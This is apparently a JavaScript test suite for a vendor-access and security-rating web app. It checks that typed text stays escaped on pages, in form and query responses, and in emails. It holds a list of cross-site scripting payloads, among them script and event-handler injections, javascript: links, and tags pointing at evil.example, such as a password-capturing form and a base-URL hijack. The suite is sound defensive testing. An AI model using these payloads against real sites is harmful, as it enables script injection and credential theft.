// Whatever is typed is shown as text: on the pages of both sides, to people without an account, and in mails.

import assert from "node:assert/strict";
import { accept } from "../lib.mjs";
import { eachPage } from "../pages.mjs";
import { PASSWORD } from "../stage.mjs";

// Each would leave an element named `xss`, or one with `data-xss`, where it is taken for markup.
const PAYLOADS = [
  "<script data-xss>alert(1)</script>",
  '"><img data-xss src=x onerror=alert(2)>',
  "'><svg data-xss onload=alert(3)>",
  "</textarea><xss tabindex=1 autofocus onfocus=alert(4)>",
  "</title><xss onclick=alert(5)>five</xss>",
  "</style></script><xss>six</xss>",
  "</option></select><xss>seven</xss>",
  "javascript:alert(8)//<xss>",
  "--><xss>nine</xss><!--",
  "]]><xss>ten</xss><![CDATA[",
  "<a data-xss href=javascript:alert(11)>eleven</a>",
  '<iframe data-xss srcdoc="<script>alert(12)</script>"></iframe>',
  "<base data-xss href=//evil.example/>",
  "<meta data-xss http-equiv=refresh content=0;url=//evil.example>",
  "<form data-xss action=//evil.example><input name=password>",
  "<link data-xss rel=stylesheet href=//evil.example/x.css>",
  "<style data-xss>*{display:none}</style>",
  '" onmouseover="alert(18)" data-xss="',
  "' autofocus onfocus='alert(19)' data-xss='",
  "` onload=alert(20) data-xss=`",
  " data-xss onload=alert(21) ",
  "&lt;xss&gt;twenty-two&lt;/xss&gt;",
  "&#60;xss&#62;twenty-three",
  "\\u003cxss\\u003etwenty-four",
  "%3Cxss%3Etwenty-five",
  "{{constructor.constructor('alert(26)')()}}<xss>",
  "${alert(27)}<%= alert(27) %><xss>",
  "<<xss>script>alert(28)//<</script>",
  '<math data-xss><mi xlink:href="javascript:alert(29)">',
  '<object data-xss data="data:text/html,<script>alert(30)</script>"></object>',
  "<svg><animate data-xss onbegin=alert(31) attributeName=x dur=1s>",
  "http://evil.example/\" onclick=\"alert(32)\" data-xss=\"",
  "**[x](javascript:alert(33))** <xss>",
];

// Runs in the page: what became of a payload that was taken for markup, in a document.
function findMarks(root = document) {
  const marks = [...root.querySelectorAll("xss, [data-xss], base, iframe, object, embed")];
  const all = [...root.querySelectorAll("*")];
  const handlers = all.filter((element) => [...element.attributes].some(({ name }) => name.startsWith("on")));
  const links = all.filter((element) => /^\s*(javascript|data|vbscript):/i.test(element.getAttribute("href") ?? ""));
  return [...marks, ...handlers, ...links].map((element) => element.outerHTML.slice(0, 120));
}

/** Whether the marks would be found: each payload leaves one where nothing is escaped. Four are encoded to begin with. */
async function mustBeFound(page) {
  const unmarked = await page.evaluate(({ payloads, source }) => {
    const marksOf = Function(`return (${source})`)();
    const raw = (text) => `<p>${text}</p><i title="${text}"></i><i title='${text}'></i><i title=${text}></i><a href='${text}'>`
      + `<textarea>${text}</textarea><select><option>${text}</option></select><!-- ${text} --><style>${text}</style>`;
    const parse = (html) => new DOMParser().parseFromString(html, "text/html");
    return payloads.filter((payload) => marksOf(parse(raw(payload))).length === 0);
  }, { payloads: PAYLOADS, source: findMarks.toString() });
  assert.deepEqual(unmarked.filter((payload) => !/^(&|%3C|\\u003c)/.test(payload)), []);
}

async function mustBeClean(stage, page, what) {
  for (const mark of await page.evaluate(findMarks)) stage.complain(`${what} has markup of a payload: ${mark}`);
}

/** As many payloads as fit into a name. */
const NAMES = PAYLOADS.flatMap((_, at) => (at % 3 === 0 ? [PAYLOADS.slice(at, at + 3).join(" ")] : []));

const guidOf = (kind, number) => `a0000000-000${kind}-4000-8000-${String(number).padStart(12, "0")}`;
const domainOf = (number) => `xss${number}.example`;

/** A company for each payload, with the payload in everything that an import can bring. */
async function importWorld(stage) {
  const companies = PAYLOADS.map((payload, number) => ({
    guid: guidOf(1, number), name: payload, shortname: payload, primary_domain: domainOf(number), description: payload,
    homepage: payload, industry: { name: payload, slug: `xss-${number}` },
  }));
  const findings = PAYLOADS.map((payload, number) => ({
    company_guid: guidOf(1, number), rolledup_observation_id: payload, risk_vector: "open_ports", severity: 7,
    severity_category: "material", evidence_key: payload, last_seen: "2026-11-10", affects_rating: true,
    remediation: [{ message: payload, help_text: payload, remediation_tip: payload }], tags: [payload],
  }));
  const { customer, ...rest } = stage.importing;
  const client = {
    guid: customer, ...rest,
    tiers: PAYLOADS.map((name, number) => ({ guid: guidOf(2, number), name, rank: 100 + number })),
    folders: PAYLOADS.map((name, number) => ({ guid: guidOf(3, number), name, company_guids: [guidOf(1, number)] })),
    portfolio: PAYLOADS.map((payload, number) => ({
      company_guid: guidOf(1, number), tier_guid: guidOf(2, number), custom_id: payload,
    })),
    contacts: PAYLOADS.map((payload, number) => ({
      guid: guidOf(4, number), company_guid: guidOf(1, number), formal_name: payload, friendly_name: payload,
      email: `contact@${domainOf(number)}`, phone_number: payload.slice(0, 60),
    })),
  };
  await stage.command(["import", "-"], JSON.stringify({ companies, findings, customers: [client] }));
}

/** Invites with the payload in every text; what a rule refuses in one field is left out of that field. */
async function inviteWith(stage, payload, number, company) {
  const fields = {
    requestee_email: `person${number}@${company.domain}`,
    requestee_company_guid: company.guid,
    requestee_formal_name: payload,
    requestee_friendly_name: payload,
    requestee_phone: payload.slice(0, 60),
    message: `${payload}\n\n${payload} see http://example.com/${payload}`,
    notes: payload,
    third_parties: [{ name: payload, email: `third${number}@${company.domain}` }],
  };
  for (let tries = 0; tries < 4; tries += 1) {
    const body = { vendor_access_request: fields };
    const { status, json } = await stage.api("client", "POST", "/ratings/v1/access-requests", body);
    if (status === 201) return json;
    const name = /requestee_\w+|third_parties/.exec(json.detail)?.[0];
    assert.ok(name, JSON.stringify(json));
    fields[name] = name === "third_parties" ? [] : "Plain";
  }
  return assert.fail(`${payload} is refused everywhere`);
}

export async function payloads_of_an_invitation_stay_text(stage) {
  await importWorld(stage);
  const client = await stage.openAs("client");
  // Mails are read in a window of their own: what is put into a page of the server inherits its content policy.
  const reader = await stage.open();
  await mustBeFound(reader);
  for (const [number, payload] of NAMES.entries()) {
    const company = { guid: guidOf(1, number), domain: domainOf(number) };
    const { guid } = await inviteWith(stage, payload, number, company);
    const { introduction, activation } = await stage.mails(guid, ["introduction", "activation"]);
    for (const [kind, { message }] of Object.entries({ introduction, activation })) {
      await reader.setContent(message.html);
      await mustBeClean(stage, reader, `the ${kind} mail`);
      const header = `${message.subject} ${message.to} ${message.cc} ${message.reply_to}`;
      assert.doesNotMatch(header, /[\r\n]/, "a header is one line");
    }
    const guest = await stage.open();
    await accept_with(stage, guest, { payload, link: activation.link });
    for (const to of [`/requests/${guid}`, `/companies/${company.guid}`, `/outbox/new?company=${company.guid}`]) {
      assert.equal((await client.goto(to)).status(), 200);
      await mustBeClean(stage, client, to);
    }
    await guest.context().close();
  }
}

/** The acceptance page, its refusal, and the room, with the payload as the name of the person. */
async function accept_with(stage, page, { payload, link }) {
  const shown = await page.goto(link);
  assert.equal(shown.status(), 200);
  assert.ok((await page.locator("blockquote").innerText()).includes(payload), `${payload} is shown as it was typed`);
  await mustBeClean(stage, page, "the acceptance page");

  assert.equal((await accept(page, { name: payload, password: "short" })).status(), 422);
  assert.equal(await page.inputValue("[name=formal_name]"), payload);
  await mustBeClean(stage, page, "the refused acceptance form");

  assert.equal((await accept(page, { name: payload, password: PASSWORD })).status(), 200);
  assert.match(page.url(), /\/inbox\//);
  await mustBeClean(stage, page, "the room");
}

// Runs in the page. Sends every form of a page that takes text, once for each payload, with the payload in every text.
// Answers are parsed without running them, which shows the same marks as a visit and takes a hundredth of the time.
async function fillForms({ payloads, domain, findMarks }) {
  const marksOf = Function(`return (${findMarks})`)();
  const parse = (html) => new DOMParser().parseFromString(html, "text/html");
  const isText = "textarea, input:not([type]), [type=text], [type=search], [type=email], [type=tel], [type=number]";
  const page = parse(await (await fetch(location.href)).text());
  const told = { sent: 0, taken: 0, marks: [] };
  for (const form of page.querySelectorAll("main form")) {
    const texts = [...form.elements].filter((element) => element.matches(isText));
    if (texts.length === 0 || form.querySelector("[type=password]")) continue;
    const posts = form.method === "post";
    const actions = [form, ...form.querySelectorAll("button[formaction]:not([name])")].map(
      (element) => element.getAttribute(element === form ? "action" : "formaction"),
    );
    for (const [number, payload] of payloads.entries()) {
      const data = new URLSearchParams(new FormData(form));
      for (const radio of form.querySelectorAll("[type=radio]")) if (!data.has(radio.name)) data.set(radio.name, radio.value);
      // A search that is given something else than a choice, too.
      if (!posts && !domain) for (const select of form.querySelectorAll("select")) data.set(select.name, payload);
      for (const field of texts) {
        const isPlain = domain && (field.type === "number" || field.inputMode === "numeric");
        const isAddress = domain && field.type === "email";
        if (!isPlain) data.set(field.name, isAddress ? `x${number}@${domain}` : payload);
      }
      if (data.has("key")) data.set("key", `${Math.random()}`);
      for (const action of actions) {
        const to = new URL(action, location.href);
        if (!posts) to.search = data;
        const answer = await fetch(to, posts ? { method: "POST", body: data } : {});
        told.sent += 1;
        told.taken += answer.ok ? 1 : 0;
        const marks = marksOf(parse(await answer.text()));
        told.marks.push(...marks.map((mark) => `${to.pathname} answered ${answer.status} with ${mark}`));
      }
    }
  }
  return told;
}

// Query parameters that pages know, or act on where they know too much.
const PARAMETERS = ["q", "next", "done", "sort", "status", "page", "columns", "vector", "after", "token", "contact", "finding"];

// Runs in the page.
async function fillQueries({ payloads, parameters, findMarks }) {
  const marksOf = Function(`return (${findMarks})`)();
  const marks = [];
  for (const payload of payloads) {
    const to = new URL(location.href);
    for (const name of parameters) if (!to.searchParams.has(name)) to.searchParams.set(name, payload);
    const answer = await fetch(to);
    marks.push(...marksOf(new DOMParser().parseFromString(await answer.text(), "text/html")));
  }
  return marks;
}

export async function payloads_stay_text_on_every_page(stage) {
  await importWorld(stage);
  for (const [number, payload] of PAYLOADS.entries()) {
    await inviteWith(stage, payload, number, { guid: guidOf(1, number), domain: domainOf(number) });
    await inviteWith(stage, payload, number, stage.companies.black_hills);
  }
  const received = await an_open_room(stage);
  const rooms = [await stage.openAs("client"), await stage.openAs("vendor")];
  await rooms[0].goto(`/requests/${received}`);
  await rooms[1].goto(`/inbox/${received}`);

  const source = { payloads: PAYLOADS, findMarks: findMarks.toString() };
  let taken = 0;
  let round;
  for (const domain of ["", stage.companies.black_hills.domain]) {
    const fill = async (page, { route, as }) => {
      const told = await page.evaluate(fillForms, { ...source, domain });
      taken += told.taken;
      for (const mark of told.marks) stage.complain(`${route} (${as}): ${mark}`);
    };
    round = await eachPage(stage, fill, { round });
  }
  assert.ok(taken > 10 * PAYLOADS.length, `forms took ${taken} of the payloads`);
  const ask = async (page, { route, as }) => {
    await mustBeClean(stage, page, `${route} (${as})`);
    const payloads = [...NAMES, ...PAYLOADS.filter((payload) => payload.startsWith("javascript:"))];
    const marks = await page.evaluate(fillQueries, { ...source, payloads, parameters: PARAMETERS });
    for (const mark of marks) stage.complain(`${route} (${as}) with a query: ${mark}`);
  };
  await eachPage(stage, ask, { round });
  for (const room of rooms) {
    assert.ok((await room.locator("article[data-message]").count()) >= PAYLOADS.length, "messages came by themselves");
    await mustBeClean(stage, room, "the open thread");
  }
}

/** A request that both sides can write in: somebody of the vendor accepted it. */
async function an_open_room(stage) {
  const { guid } = await inviteWith(stage, PAYLOADS[0], 100, stage.companies.black_hills);
  const guest = await stage.open();
  await guest.goto((await stage.activation(guid)).link);
  assert.equal((await accept(guest, { name: PAYLOADS[1], password: PASSWORD })).status(), 200);
  return guid;
}
